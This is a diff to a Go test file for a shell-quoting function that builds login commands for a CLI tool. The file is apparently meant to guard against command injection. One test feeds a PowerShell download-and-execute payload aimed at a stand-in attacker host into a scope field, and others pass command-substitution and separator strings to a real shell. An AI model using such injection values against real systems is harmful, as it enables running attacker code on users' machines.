@@ -2,6 +2,7 @@ package host
 
 import (
 	"encoding/json"
+	"os/exec"
 	"strings"
 	"testing"
 )
@@ -43,21 +44,46 @@ func FuzzMergeClaims(f *testing.F) {
 	})
 }
 
+// A word that a Windows shell could take for more than a word is not quoted at
+// all.
 func TestQuote(t *testing.T) {
 	cases := []struct{ word, posix, windows string }{
 		{"https://a/.default", "https://a/.default", "https://a/.default"},
 		{"", "''", `""`},
 		{"a b", "'a b'", `"a b"`},
-		{"it's", `'it'\''s'`, `"it's"`},
-		{`{"a":1}`, `'{"a":1}'`, `"{\"a\":1}"`},
-		{"$(x)", "'$(x)'", `"$(x)"`},
+		{`C:\Users\a b\x.toml`, `'C:\Users\a b\x.toml'`, `"C:\Users\a b\x.toml"`},
+		{`C:\a b\`, `'C:\a b\'`, ""},
+		{"it's", `'it'\''s'`, ""},
+		{`{"a":1}`, `'{"a":1}'`, ""},
+		{"$(x)", "'$(x)'", ""},
+		{"a&b", "'a&b'", ""},
+		{"%PATH%", "'%PATH%'", ""},
 	}
 	for _, c := range cases {
-		if got := quote(c.word, "linux"); got != c.posix {
+		if got, ok := quote(c.word, "linux"); !ok || got != c.posix {
 			t.Errorf("%q: got %s, want %s", c.word, got, c.posix)
 		}
-		if got := quote(c.word, "windows"); got != c.windows {
-			t.Errorf("%q on Windows: got %s, want %s", c.word, got, c.windows)
+		if got, ok := quote(c.word, "windows"); ok != (c.windows != "") || ok && got != c.windows {
+			t.Errorf("%q on Windows: got %s, %v, want %s", c.word, got, ok, c.windows)
+		}
+	}
+	l := Login{Profile: "work", Scopes: []string{"$(iex(irm(evil.example)))/.default"}}
+	if got, want := l.command("windows"), "authlatch login -p work --scope SCOPE"; got != want {
+		t.Errorf("got %s, want %s", got, want)
+	}
+}
+
+// A real shell reads the words as they are.
+func TestQuoteForAShell(t *testing.T) {
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("no sh here")
+	}
+	for _, word := range []string{"plain", "", "two words", "o'brien", `"`, `back\slash`, "$HOME", "`id`", "a;b", "*", "ü", `{"a":"b c"}`, "~", "-x", "!"} {
+		quoted, _ := quote(word, "linux")
+		out, err := exec.CommandContext(t.Context(), sh, "-c", "printf %s "+quoted).Output()
+		if err != nil || string(out) != word {
+			t.Errorf("%s is read as %q (%v), not %q", quoted, out, err, word)
 		}
 	}
 }
